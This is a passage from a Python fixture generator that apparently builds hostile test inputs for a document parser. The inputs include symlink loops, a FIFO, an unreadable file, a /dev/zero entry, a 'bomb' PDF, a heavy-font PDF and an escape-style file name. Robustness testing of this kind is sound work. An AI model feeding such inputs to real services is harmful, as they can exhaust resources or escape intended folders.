    lying_sizes(at("lying-sizes.docx"))
    joined_paragraphs(at("joined-paragraphs.docx"))
    os.mkfifo(at("fifo.txt"))
    os.symlink("loop-b.txt", at("loop-a.txt"))
    os.symlink("loop-a.txt", folder / "loop-b.txt")
    at("folder.md").mkdir()
    unreadable = at("unreadable.md")
    shutil.copyfile(CONVENTION / "zero-draft.md", unreadable)
    unreadable.chmod(0)
    (folder / "plain.txt").write_text("Article 1\nScope\n\nText.\n", encoding="utf-8")
    made["inside-a-file.md"] = folder / "plain.txt" / "draft.md"
    spaced = folder / UNICODE_PATH
    made["unicode-path.md"] = spaced
    spaced.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(CONVENTION / "zero-draft.md", spaced)
    made["/dev/zero"] = Path("/dev/zero")
    vanishing = at("vanishing.md")
    shutil.copyfile(CONVENTION / "zero-draft.md", vanishing)
    shared_bomb_pdf(at("shared-bomb.pdf"))
    many_pages_pdf(at("many-pages.pdf"))
    heavy_font_pdf(at("heavy-font.pdf"))
    made["escape-name.md"] = folder / ESCAPE_NAME
    shutil.copyfile(CONVENTION / "zero-draft.md", made["escape-name.md"])
    markup_lines(at("markup-lines.md"))
    open_markup(at("open-markup.html"))
    return made


def write_small(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, make in SMALL.items():
        path = folder / name
        path.write_bytes(make())
        written.append(path)
    return written


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--out", type=Path, help="write every entry into this folder instead")
    args = parser.parse_args(argv)
    if args.out is None:
        for path in write_small(HERE):
            print(path.relative_to(ROOT))
        return 0
    write_small(args.out)
    for name, path in generate(args.out).items():
        print(f"{name}: {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
